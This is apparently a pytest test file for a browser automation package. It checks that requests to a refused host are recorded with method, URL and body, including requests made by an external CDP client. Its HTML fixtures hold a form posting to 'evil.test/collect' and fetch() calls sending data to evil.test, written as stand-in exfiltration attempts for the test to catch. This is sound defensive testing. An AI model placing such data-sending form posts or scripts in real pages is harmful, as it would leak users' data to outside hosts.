"""Requests whose connection was refused are recorded, whatever drives the browser."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import sync_playwright

from pytest_webarena.actions import Click, Goto, Selector
from pytest_webarena.browser.config import SessionConfig
from pytest_webarena.browser.driven import open_driven
from tests.browser.conftest import BROWSER, CALM, Web
from tests.browser.watched import Watched
from tests.processes import wait_until

if TYPE_CHECKING:
    from pytest_webarena.browser.engine import BrowserEngine
    from pytest_webarena.browser.session import Session

FORM = "<form action='https://evil.test/collect?d=1#x' method=post><input name=a value=b><button>Send</button></form>"
SCRIPT = """<button onclick="fetch('https://evil.test/put', {method: 'PUT', body: '{}'}).catch(() => 0)">Put</button>
<button id=file onclick="fetch('https://evil.test/file', {method: 'POST', body: new Blob(['x'])}).catch(() => 0)">"""
SENT = ("POST", "https://evil.test/collect?d=1", "a=b", False)


def refused(session: Session) -> list[tuple[str, str, str | None, bool]]:
    return [(each.method, each.url, each.request_body, each.body_cut) for each in session.signals.refused]


def test_refused_requests_are_recorded_with_method_url_and_body(calm: Session, web: Web) -> None:
    calm.open_tabs([web.put("/", FORM)])
    calm.execute(Click(Selector("css=button")))
    calm.execute(Goto("https://evil.test/a"))
    web.put("/", SCRIPT)
    calm.execute(Goto("http://a.test/"))
    calm.execute(Click(Selector("css=button")))
    calm.execute(Click(Selector("css=#file")))
    wait_until(lambda: len(refused(calm)) == 4)
    assert refused(calm)[:3] == [
        SENT,
        ("GET", "https://evil.test/a", None, False),
        ("PUT", "https://evil.test/put", "{}", False),
    ]
    method, url, _, cut = refused(calm)[3]
    assert (method, url, cut) == ("POST", "https://evil.test/file", True)  # whose body the browser does not report


@pytest.mark.skipif(BROWSER != "chromium", reason="only a Chromium can be driven")
def test_refused_requests_of_cdp_clients_are_recorded(engine: BrowserEngine, web: Web) -> None:
    config = SessionConfig(proxy=web.proxy, deadlines=CALM)
    with sync_playwright() as playwright, open_driven(engine, config) as (session, driven):
        session.open_tabs([web.put("/", FORM)])
        watched = Watched(session, driven)
        page = playwright.chromium.connect_over_cdp(driven.cdp_url).contexts[0].pages[0]
        page.get_by_text("Send").click()
        wait_until(lambda: len(refused(session)) == 1)
        watched.close()
        assert refused(session) == [SENT]
